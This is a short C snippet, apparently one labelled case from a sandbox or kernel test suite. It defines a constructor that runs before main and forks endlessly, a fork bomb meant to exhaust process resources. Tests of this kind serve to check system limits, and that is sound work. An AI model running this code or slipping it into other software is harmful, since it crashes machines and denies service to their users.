// Attack (8): a fork bomb from the constructor; every process keeps forking and never reaches main.
__attribute__((constructor)) static void cm_attack() {
  cm_say("ATTACK fork bomb\n");
  for (;;) cm_sys(SYS_FORK, 0, 0, 0);
}
